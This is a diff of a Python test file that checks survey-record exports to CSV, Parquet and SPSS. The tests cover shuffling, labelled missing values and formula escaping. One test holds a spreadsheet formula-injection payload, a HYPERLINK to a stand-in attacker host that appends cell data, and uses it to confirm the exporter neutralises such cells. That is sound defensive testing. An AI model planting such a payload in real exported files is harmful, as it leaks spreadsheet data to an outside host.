@@ -1,12 +1,16 @@
+"""The rows of record files in every format: each sealed record once, in an order that is drawn."""
+
 import csv
 import io
 import json
+import tracemalloc
 from collections import Counter
 from collections.abc import Callable, Iterator
 from pathlib import Path
 from typing import Any
 
 import numpy as np
+import pyarrow as pa
 import pyreadstat
 import pytest
 from hypothesis import given, settings, strategies as st
@@ -19,7 +23,7 @@ from intake.recordfiles.rows import UsedRows, shuffle_used_records
 from privacy.designs import Design
 from privacy.kinds.number.window.section import WindowQuestion
 from privacy.records import RecordRow, packed_bit_columns, write_records
-from tests.intake import asked, filed
+from tests.intake import asked, shapes
 from tests.intake.shapes import any_codes, designs
 from tests.privacy.questionnaires import read_records
 from tests.runs import sealed
@@ -47,10 +51,26 @@ LINES = [
     "disguised,18-39,,-",
     "open,?,no,",
 ]
+Case = tuple[Design, list[list[RecordRow]]]
+
+
+def of_choices(*questions: dict[str, Any]) -> Design:
+    return asked.written({"kind": "plain", "questions": list(questions)})
 
 
 def csv_of(records: UsedRows) -> str:
     return b"".join(as_csv.write_csv(records)).decode()
+
+
+def table_of(records: UsedRows) -> Any:
+    return parquet.read_table(io.BytesIO(b"".join(as_parquet.write_parquet(records, "en"))))
+
+
+def spss(records: UsedRows, folder: Path, **more: Any) -> tuple[dict[str, list[Any]], Any]:
+    path = folder / "records.sav"
+    as_spss_and_stata.write_sav(records, path, "en")
+    data, about = pyreadstat.read_sav(path, output_format="dict", **more)
+    return {name: list(values) for name, values in data.items()}, about
 
 
 def rows_of(text: str, design: Design = ASKS) -> list[RecordRow]:
@@ -58,7 +78,7 @@ def rows_of(text: str, design: Design = ASKS) -> list[RecordRow]:
 
 
 @st.composite
-def sealed_rows(draw: st.DrawFn) -> tuple[Design, list[list[RecordRow]]]:
+def sealed_rows(draw: st.DrawFn) -> Case:
     design = draw(designs(numbers=True))
     rng = np.random.default_rng(draw(st.integers(0, 2**32)))
     sizes = draw(st.lists(st.integers(1, 70), min_size=1, max_size=4))
@@ -69,170 +89,115 @@ def sealed_rows(draw: st.DrawFn) -> tuple[Design, list[list[RecordRow]]]:
 
 
 def test_a_csv_file_holds_names_nothing_a_dash_and_question_marks() -> None:
-    lines = csv_of(filed.records(ASKS, ROWS)).splitlines()
-    assert lines[0] == LINES[0]
-    assert sorted(lines[1:]) == sorted(LINES[1:])
+    found = shapes.records(ASKS, ROWS)
+    header, *lines = csv_of(found).splitlines()
+    assert (header, sorted(lines)) == (LINES[0], sorted(LINES[1:]))
+    assert (found.n, found.count_disguised, found.count_open) == (4, 3, 1)
+    # A question with as many choices as a byte has values can be withheld.
+    wide = of_choices({"name": "q", "choices": [str(code) for code in range(254)]})
+    found = shapes.records(wide, [RecordRow(0, (253,)), RecordRow(1, (253,))])
+    assert sorted(csv_of(found).splitlines()[1:]) == ["disguised,253", "open,?"]
 
 
 FORMULA = '=HYPERLINK("http://attacker.example/"&A1,"see")'
-TEMPTING = asked.written(
-    {"kind": "plain", "questions": [{"name": "+1+2", "choices": [FORMULA, "'" + FORMULA, "-5", "@SUM(A1)"]}]}
-)
+TEMPTING = of_choices({"name": "+1+2", "choices": [FORMULA, "'" + FORMULA, "-5", "@SUM(A1)"]})
 
 
 def test_no_name_goes_out_as_a_formula_and_every_one_comes_back() -> None:
+    """Also those written by hand as they are."""
     rows = [RecordRow(1, (code,)) for code in range(4)]
-    text = csv_of(filed.records(TEMPTING, rows))
+    text = csv_of(shapes.records(TEMPTING, rows))
     header, *cells = csv.reader(io.StringIO(text))
     assert header == ["group", "'+1+2"]
-    assert sorted(cell for _group, cell in cells) == sorted(
-        [f"'{FORMULA}", f"''{FORMULA}", "'-5", "'@SUM(A1)"]
-    )
+    assert {cell for _group, cell in cells} == {f"'{FORMULA}", f"''{FORMULA}", "'-5", "'@SUM(A1)"}
     assert sorted(rows_of(text, TEMPTING)) == rows
-
-
-def test_the_command_that_disguises_writes_the_same_cells() -> None:
-    rows = [RecordRow(1, (code,)) for code in range(4)]
+    # The command that disguises writes the same cells.
     file = io.StringIO()
     write_records(file, TEMPTING, rows)
-    ours = csv_of(filed.records(TEMPTING, rows))
-    assert sorted(file.getvalue().splitlines()) == sorted(ours.splitlines())
-
-
-def test_names_written_by_hand_as_they_are_are_read_too() -> None:
+    assert sorted(file.getvalue().splitlines()) == sorted(text.splitlines())
     lines = ["group,+1+2", "disguised,-5", "disguised,@SUM(A1)"]
-    assert rows_of("\n".join(lines), TEMPTING) == [RecordRow(1, (2,)), RecordRow(1, (3,))]
+    assert rows_of("\n".join(lines), TEMPTING) == rows[2:]
 
 
 @pytest.mark.page
 @given(case=sealed_rows())
-def test_every_sealed_record_stands_in_the_file_once(case: tuple[Design, list[list[RecordRow]]]) -> None:
+def test_every_sealed_record_stands_in_the_file_once(case: Case) -> None:
+    """The cells of a Parquet file are those of the CSV file."""
     design, parts = case
-    rows = [row for part in parts for row in part]
-    found = rows_of(csv_of(filed.records(design, *parts)), design)
-    assert Counter(found) == Counter(filed.told(design, rows))
+    records = shapes.records(design, *parts)
+    text = csv_of(records)
+    told = shapes.told(design, [row for part in parts for row in part])
+    assert Counter(rows_of(text, design)) == Counter(told)
+    table = table_of(records)
+    header, *lines = (line.split(",") for line in text.splitlines())
+    assert table.column_names == header
+    whole = [shapes.cells_of(table, name) for name in header]
+    assert [list(line) for line in zip(*whole, strict=True)] == lines
 
 
 def test_rows_are_permuted_over_all_batches() -> None:
     first, second = [RecordRow(1, (0, 1, 2))] * 300, [RecordRow(1, (0, 0, 2))] * 300
-    cells = [line.split(",")[2] for line in csv_of(filed.records(ASKS, first, second)).splitlines()[1:]]
+    cells = [line.split(",")[2] for line in csv_of(shapes.records(ASKS, first, second)).splitlines()[1:]]
     # Half of the first half is of each batch: 150, give or take five times 6.1.
     assert 120 < cells[:300].count("yes") < 180
     assert Counter(cells) == {"yes": 300, "no": 300}
-
-
-def test_unpacking_in_blocks_changes_nothing() -> None:
-    found = filed.records(ASKS, ROWS * 40, ROWS * 3)
-    whole = next(found.blocks(1000))
-    pieces = list(found.blocks(7))
+    # Unpacking in blocks changes nothing.
+    found = shapes.records(ASKS, ROWS * 40, ROWS * 3)
+    whole, pieces = next(found.blocks(1000)), list(found.blocks(7))
     assert np.array_equal(np.concatenate([block.codes for block in pieces], axis=1), whole.codes)
     assert np.array_equal(np.concatenate([block.group for block in pieces]), whole.group)
-
-
-def test_the_groups_are_counted() -> None:
-    found = filed.records(ASKS, ROWS, ROWS)
-    assert (found.n, found.count_disguised, found.count_open) == (8, 6, 2)
-
-
-def test_a_question_with_as_many_choices_as_a_byte_has_values_can_be_withheld() -> None:
-    design = asked.written(
-        {"kind": "plain", "questions": [{"name": "q", "choices": [str(c) for c in range(254)]}]}
-    )
-    found = filed.records(design, [RecordRow(0, (253,)), RecordRow(1, (253,))])
-    assert sorted(csv_of(found).splitlines()[1:]) == ["disguised,253", "open,?"]
 
 
 @pytest.mark.django_db
 def test_only_sealed_records_leave() -> None:
     survey = asked.survey(ASKS)
-    filed.seal(survey, ASKS, ROWS * 5, ROWS * 6)
+    shapes.seal(survey, ASKS, ROWS * 5, ROWS * 6)
     Inbox.objects.create(survey=survey, record=b"1012")
     # Before the survey is finished those of people who chose disguise.
     assert shuffle_used_records(survey).count_open == 0
     sealed.finish(survey)
     found = shuffle_used_records(survey)
     assert found.n == 44
-    assert Counter(rows_of(csv_of(found))) == Counter(filed.told(ASKS, ROWS * 11))
+    assert Counter(rows_of(csv_of(found))) == Counter(shapes.told(ASKS, ROWS * 11))
 
 
 @pytest.mark.django_db
-def test_what_was_sent_comes_out_of_the_file() -> None:
+def test_what_was_sent_comes_out_of_the_file_and_two_files_have_two_orders() -> None:
     design = asked.design(least=20)
     survey = asked.survey(design)
     for number in range(40):
         asked.post(survey, asked.envelope(design, number))
     sealing.seal_records(survey.pk, everything=True)
-    found = rows_of(csv_of(shuffle_used_records(survey)), design)
-    assert sorted(int("".join(map(str, row.codes)), 8) for row in found) == list(range(40))
-
-
-@pytest.mark.django_db
-def test_two_files_have_two_orders() -> None:
-    design = asked.design(least=20)
-    survey = asked.survey(design)
-    rows = [RecordRow(1, tuple(int(digit) for digit in f"{number:06o}")) for number in range(100)]
-    filed.seal(survey, design, rows)
-    one, other = (rows_of(csv_of(shuffle_used_records(survey)), design) for _ in range(2))
+    one, other = (rows_of(csv_of(shuffle_used_records(survey)), design) for _file in range(2))
     assert one != other
-    assert sorted(one) == sorted(other) == rows
+    for rows in (one, other):
+        assert sorted(int("".join(map(str, row.codes)), 8) for row in rows) == list(range(40))
 
 
 # --- other formats hold the same
 
 
-def cells(design: Design, records: UsedRows) -> list[list[str]]:
-    return [line.split(",") for line in csv_of(records).splitlines()]
-
-
-@pytest.mark.page
-@settings(max_examples=15)
-@given(case=sealed_rows())
-def test_a_parquet_file_holds_the_cells_of_the_csv_file(case: tuple[Design, list[list[RecordRow]]]) -> None:
-    design, parts = case
-    found = filed.records(design, *parts)
-    table = parquet.read_table(io.BytesIO(b"".join(as_parquet.write_parquet(found, "en"))))
-    header, *lines = cells(design, found)
-    assert table.column_names == header
-    whole = [filed.cells_of(table, name) for name in header]
-    assert [list(line) for line in zip(*whole, strict=True)] == lines
-
-
 def test_a_parquet_column_is_of_categories_and_says_what_they_mean() -> None:
-    found = filed.records(ASKS, ROWS)
-    table = parquet.read_table(io.BytesIO(b"".join(as_parquet.write_parquet(found, "en"))))
+    table = table_of(shapes.records(ASKS, ROWS))
     theft = table.schema.field("theft")
     assert theft.metadata[b"candor:text"] == b"Have you stolen?"
     assert json.loads(theft.metadata[b"candor:labels"]) == {"no": "No", "yes": "Yes"}
     assert table["age"].chunk(0).dictionary.to_pylist() == ["18-39", "40+", "-", "?"]
     assert table.schema.metadata[b"candor:fingerprint"].decode() == ASKS.fingerprint
-
-
-def test_a_parquet_column_of_a_scale_is_ordered_as_its_choices() -> None:
+    # That of a scale is ordered as its choices.
     often = {"name": "often", "form": "scale", "choices": ["never", "rarely", "often"]}
-    asked_of = asked.written(
-        {"kind": "plain", "questions": [{"name": "age", "choices": ["18-39", "40+"]}, often]}
-    )
-    found = filed.records(asked_of, [RecordRow(1, (0, code)) for code in (2, 0, 1)])
-    table = parquet.read_table(io.BytesIO(b"".join(as_parquet.write_parquet(found, "en"))))
-    assert [table.schema.field(name).type.ordered for name in ("group", "age", "often")] == [
-        False,
-        False,
-        True,
-    ]
+    of = of_choices({"name": "age", "choices": ["18-39", "40+"]}, often)
+    table = table_of(shapes.records(of, [RecordRow(1, (0, code)) for code in (2, 0, 1)]))
+    ordered = {name: table.schema.field(name).type.ordered for name in table.column_names}
+    assert ordered == {"group": False, "age": False, "often": True}
     column = table.to_pandas()["often"]
     assert column.cat.categories[:3].tolist() == ["never", "rarely", "often"]
     assert (column > "never").sum() == 2
 
 
-def spss(records: UsedRows, folder: Path, **more: Any) -> tuple[dict[str, list[float | None]], Any]:
-    path = folder / "records.sav"
-    as_spss_and_stata.write_sav(records, path, "en")
-    data, about = pyreadstat.read_sav(path, output_format="dict", **more)
-    return data, about
-
-
 def test_an_spss_file_holds_codes_and_labelled_missing_values(tmp_path: Path) -> None:
-    data, about = spss(filed.records(ASKS, ROWS), tmp_path, user_missing=True)
+    records = shapes.records(ASKS, ROWS)
+    data, about = spss(records, tmp_path, user_missing=True)
     assert about.column_names == ["group", "age", "theft", "how_much"]
     rows = sorted(zip(*data.values(), strict=True))
     assert rows == [(0, -3, 0, -1), (1, 0, -1, -2), (1, 0, 1, -1), (1, 1, -1, 1)]
@@ -241,34 +206,24 @@ def test_an_spss_file_holds_codes_and_labelled_missing_values(tmp_path: Path) ->
     assert about.variable_value_labels["theft"] == labels
     assert about.file_label == "Theft"
     assert ASKS.fingerprint in about.notes[0]
-
-
-def test_spss_takes_the_missing_values_for_missing(tmp_path: Path) -> None:
-    data, _about = spss(filed.records(ASKS, ROWS), tmp_path)
-    assert sorted(value for value in data["age"] if value is not None) == [0, 0, 1]
-    assert data["age"].count(None) == 1
+    # SPSS takes these for missing.
+    data, _about = spss(records, tmp_path)
+    assert sorted(data["age"], key=str) == [0, 0, 1, None]
 
 
 @pytest.mark.page
 @settings(max_examples=15)
 @given(case=sealed_rows())
-def test_an_spss_file_holds_the_records_of_the_csv_file(
-    tmp_path_factory: pytest.TempPathFactory, case: tuple[Design, list[list[RecordRow]]]
-) -> None:
+def test_an_spss_file_holds_the_same_records(tmp_path_factory: pytest.TempPathFactory, case: Case) -> None:
     design, parts = case
-    found = filed.records(design, *parts)
+    found = shapes.records(design, *parts)
     data, about = spss(found, tmp_path_factory.getbasetemp(), user_missing=True)
-    reasons = {
-        "not asked": "not_asked",
-        "does not apply": "not_applicable",
-        "withheld": "withheld",
-    }
+    variables = spss_and_stata_variables.variable_names(design)
+    reasons = {"not asked": "not_asked", "does not apply": "not_applicable", "withheld": "withheld"}
 
     def code(place: int, value: float) -> int:
         question = design.questions[place]
-        label = about.variable_value_labels[spss_and_stata_variables.variable_names(design)[place]].get(
-            value, ""
-        )
+        label = about.variable_value_labels[variables[place]].get(value, "")
         if label in reasons:
             return int(getattr(question, reasons[label]))
         return int(value) - (question.low if isinstance(question, WindowQuestion) else 0)
@@ -280,47 +235,20 @@ def test_an_spss_file_holds_the_records_of_the_csv_file(
     assert rows == rows_of(csv_of(found), design)
 
 
-@pytest.mark.page
-@given(names=st.lists(st.text(min_size=1, max_size=70).filter(str.isprintable), max_size=6, unique=True))
-def test_spss_variables_are_legal_and_of_one_case_only_once(names: list[str]) -> None:
-    wished = [name for name in (each.strip().replace("=", "") for each in names) if name and name != "group"]
-    questions = [
-        {"name": name, "choices": ["a", "b"]} for name in dict.fromkeys([*wished, "Not", "q1", "Q1", "ok."])
-    ]
-    try:
-        design = asked.written({"kind": "plain", "questions": questions})
-    except ValueError:
-        return
-    made = spss_and_stata_variables.variable_names(design)
-    assert len({name.lower() for name in [*made, "group"]}) == len(made) + 1
-    assert all(spss_and_stata_variables.SPSS.allows(name) for name in made)
-    assert made[[question["name"] for question in questions].index("q1")] == "q1"
-
-
 # --- at constant memory
 
 
 def many(records: int) -> UsedRows:
-    design = asked.written(
-        {
-            "kind": "unrelated-question",
-            "keep": "0.5",
-            "questions": [{"name": f"q{place}", "choices": ["no", "yes"]} for place in range(200)],
-        }
-    )
+    questions = [{"name": f"q{place}", "choices": ["no", "yes"]} for place in range(200)]
+    design = asked.written({"kind": "unrelated-question", "keep": "0.5", "questions": questions})
     rng = np.random.default_rng(1)
     codes = rng.integers(0, 2, (200, records), np.uint8)
-    part = packed_bit_columns.columns_from_bytes(
-        design, packed_bit_columns.pack_batch(design, np.ones(records, np.uint8), codes)
-    )
+    packed = packed_bit_columns.pack_batch(design, np.ones(records, np.uint8), codes)
+    part = packed_bit_columns.columns_from_bytes(design, packed)
     return UsedRows(design, (part,), rng.permutation(records).astype(np.uint32))
 
 
 def peak(write: Callable[[UsedRows], Iterator[bytes]], records: UsedRows) -> int:
-    import tracemalloc
-
-    import pyarrow as pa
-
     tracemalloc.start()
     arrow = pa.default_memory_pool()
     before, most = arrow.bytes_allocated(), 0
